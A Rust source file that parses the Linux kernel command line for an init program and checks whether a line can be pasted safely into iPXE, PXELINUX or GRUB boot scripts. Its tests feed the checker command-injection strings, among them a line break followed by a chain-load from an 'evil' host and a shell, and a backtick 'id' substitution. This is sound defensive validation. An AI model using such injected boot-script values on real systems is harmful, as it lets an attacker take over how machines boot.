//! The kernel command line as the init reads it: `key=value` words, values
//! optionally in double quotes, the last of a repeated key winning (as the
//! kernel does for its own parameters).

use crate::contract::args;

/// What the init does when the boot fails.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OnFail {
    /// Drop to the initramfs's shell when it has one, else power off.
    Default,
    Shell,
    PowerOff,
    /// Print the error and wait forever.
    Halt,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cmdline {
    pub rootfs_url: Option<String>,
    pub iface: Option<String>,
    pub init: String,
    pub on_fail: OnFail,
    pub retries: u32,
    /// Words the init did not understand but that look like its own.
    pub unknown: Vec<String>,
}

/// Split like the kernel does: whitespace separates words, except inside
/// double quotes, which are removed.
pub fn words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut current = String::new();
    let mut quoted = false;
    let mut any = false;
    for c in line.chars() {
        match c {
            '"' => {
                quoted = !quoted;
                any = true;
            }
            c if c.is_whitespace() && !quoted => {
                if any {
                    words.push(std::mem::take(&mut current));
                    any = false;
                }
            }
            c => {
                current.push(c);
                any = true;
            }
        }
    }
    if any {
        words.push(current);
    }
    words
}

pub fn parse(line: &str) -> Cmdline {
    let mut cmdline = Cmdline {
        rootfs_url: None,
        iface: None,
        init: "/sbin/init".into(),
        on_fail: OnFail::Default,
        retries: 8,
        unknown: Vec::new(),
    };
    for word in words(line) {
        let (key, value) = word.split_once('=').unwrap_or((word.as_str(), ""));
        match key {
            args::ROOTFS_URL => cmdline.rootfs_url = Some(value.to_string()).filter(|v| !v.is_empty()),
            args::IFACE => cmdline.iface = Some(value.to_string()).filter(|v| !v.is_empty()),
            args::INIT if !value.is_empty() => cmdline.init = value.to_string(),
            args::ON_FAIL => match value {
                "shell" => cmdline.on_fail = OnFail::Shell,
                "poweroff" => cmdline.on_fail = OnFail::PowerOff,
                "halt" => cmdline.on_fail = OnFail::Halt,
                _ => cmdline.unknown.push(word.clone()),
            },
            args::RETRIES => match value.parse() {
                Ok(retries) => cmdline.retries = retries,
                Err(_) => cmdline.unknown.push(word.clone()),
            },
            key if key.starts_with("rootsmith.") => cmdline.unknown.push(word.clone()),
            _ => {}
        }
    }
    cmdline
}

/// Characters a kernel command line never carries into a boot script: each
/// means something to one of the loaders that take the line as it is
/// (iPXE: `||` `&&` chain commands, `${…}` expands a setting, `#` starts a
/// comment; GRUB: `;` `$` `{` `}` `'` `\` and `` ` ``; every loader: a
/// line break ends the command).
const SCRIPT_SPECIAL: &[char] = &['|', '&', ';', '$', '`', '\\', '{', '}', '#', '\''];

/// Whether `line` can go into an iPXE, PXELINUX or GRUB script as it is:
/// printable ASCII (spaces, no tabs or line breaks), none of the characters
/// a loader's script gives a meaning, double quotes in pairs. The error
/// names the first character that cannot be quoted and where it is.
pub fn check_script_safe(line: &str) -> Result<(), String> {
    for (index, c) in line.char_indices() {
        let why = if c == '\n' || c == '\r' {
            "a line break"
        } else if c.is_ascii_control() || !c.is_ascii() {
            "a control or non-ASCII character"
        } else if SCRIPT_SPECIAL.contains(&c) {
            "a character boot scripts give a meaning"
        } else {
            continue;
        };
        return Err(format!("{c:?} at byte {index} is {why}; boot menus (iPXE, PXELINUX, GRUB) cannot carry it"));
    }
    if line.matches('"').count() % 2 == 1 {
        return Err("an unpaired double quote; boot menus (GRUB) cannot carry it".into());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_every_boot_script_carries_as_it_is_passes() {
        check_script_safe(
            "console=ttyS0,115200 quiet rootsmith.rootfs_url=http://10.0.2.2:8080/r-1.0-rootfs.img a=\"b c\"",
        )
        .unwrap();
        for bad in [
            "x\nchain http://evil/ && shell",
            "a || shell",
            "a && b",
            "${next-server}",
            "a;b",
            "`id`",
            "a#b",
            "it's",
            "x\ty",
            "é",
            "a\"b",
        ] {
            assert!(check_script_safe(bad).is_err(), "{bad:?} passed");
        }
        let error = check_script_safe("ok\nkernel http://evil").unwrap_err();
        assert!(error.contains("at byte 2") && error.contains("line break"), "{error}");
    }

    #[test]
    fn splits_on_whitespace_outside_quotes() {
        assert_eq!(words("  a b=\"c d\"\te\n"), vec!["a", "b=c d", "e"]);
        assert_eq!(words("x=\"\""), vec!["x="]);
        assert!(words("   ").is_empty());
    }

    #[test]
    fn reads_the_init_arguments() {
        let cmdline = parse("BOOT_IMAGE=/vmlinuz console=ttyS0 rootsmith.rootfs_url=http://10.0.2.2:8080/r.img rootsmith.iface=eth1 rootsmith.on_fail=halt rootsmith.retries=3 quiet");
        assert_eq!(cmdline.rootfs_url.as_deref(), Some("http://10.0.2.2:8080/r.img"));
        assert_eq!(cmdline.iface.as_deref(), Some("eth1"));
        assert_eq!(cmdline.on_fail, OnFail::Halt);
        assert_eq!(cmdline.retries, 3);
        assert_eq!(cmdline.init, "/sbin/init");
        assert!(cmdline.unknown.is_empty());
    }

    #[test]
    fn defaults_and_unknown_words() {
        let cmdline = parse("rootsmith.init=/bin/sh rootsmith.on_fail=explode rootsmith.rootfs=x rootsmith.rootfs_url= rootsmith.retries=many");
        assert_eq!(cmdline.init, "/bin/sh");
        assert_eq!(cmdline.rootfs_url, None);
        assert_eq!(cmdline.on_fail, OnFail::Default);
        assert_eq!(cmdline.retries, 8);
        assert_eq!(cmdline.unknown, vec!["rootsmith.on_fail=explode", "rootsmith.rootfs=x", "rootsmith.retries=many"]);
    }

    #[test]
    fn last_repeated_argument_wins() {
        assert_eq!(parse("rootsmith.iface=a rootsmith.iface=b").iface.as_deref(), Some("b"));
    }
}
